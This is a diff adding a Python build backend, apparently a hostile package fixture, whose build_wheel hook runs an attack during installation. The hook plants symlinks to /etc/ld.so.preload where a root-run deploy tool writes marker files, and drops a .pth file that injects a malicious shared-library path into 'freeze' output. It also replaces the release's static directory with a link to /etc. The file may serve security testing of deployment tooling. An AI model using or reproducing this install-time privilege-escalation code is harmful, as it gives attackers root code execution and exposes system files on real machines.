@@ -1,0 +1,45 @@
+"""A package that does what it can, while it is installed, to have root write, read and publish for it."""
+
+import os
+import sys
+import sysconfig
+import zipfile
+
+# Whoever writes there has code of his own run by every program that root starts.
+PRELOAD = "/etc/ld.so.preload"
+RELEASE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+VERSIONS = "x==1:/srv/flask/hostile/shared/evil.so"
+NAME = "hostile_local-1.0"
+
+
+def link(target: str, path: str) -> None:
+    if not os.path.lexists(path):
+        os.symlink(target, path)
+
+
+def attack() -> None:
+    for mark in ("requirements.lock", ".flaskops-complete"):
+        link(PRELOAD, f"{sys.prefix}/{mark}")
+        link(PRELOAD, f"{sys.prefix}/.{mark}.partial")
+    # Every start of the virtualenv's interpreter runs this, also where it is isolated.
+    with open(f"{sysconfig.get_path('purelib')}/evil.pth", "w") as file:
+        file.write(f"import sys; 'freeze' in open('/proc/self/cmdline').read() and print({VERSIONS!r})\n")
+    if not os.path.islink(f"{RELEASE}/static"):
+        os.rename(f"{RELEASE}/static", f"{RELEASE}/aside")
+    link("/etc", f"{RELEASE}/static")
+
+
+def build_wheel(wheel_directory: str, config_settings: object = None, metadata_directory: object = None) -> str:
+    """Attack, and return the name of a wheel with nothing in it (PEP 517, PEP 427)."""
+    attack()
+    if os.path.exists(f"{RELEASE}/local/fails"):
+        raise SystemExit("the package cannot be built after all")
+    files = {
+        "METADATA": "Metadata-Version: 2.1\nName: hostile-local\nVersion: 1.0\n",
+        "WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    with zipfile.ZipFile(f"{wheel_directory}/{NAME}-py3-none-any.whl", "w") as wheel:
+        for name, text in files.items():
+            wheel.writestr(f"{NAME}.dist-info/{name}", text)
+        wheel.writestr(f"{NAME}.dist-info/RECORD", "".join(f"{NAME}.dist-info/{name},,\n" for name in [*files, "RECORD"]))
+    return f"{NAME}-py3-none-any.whl"
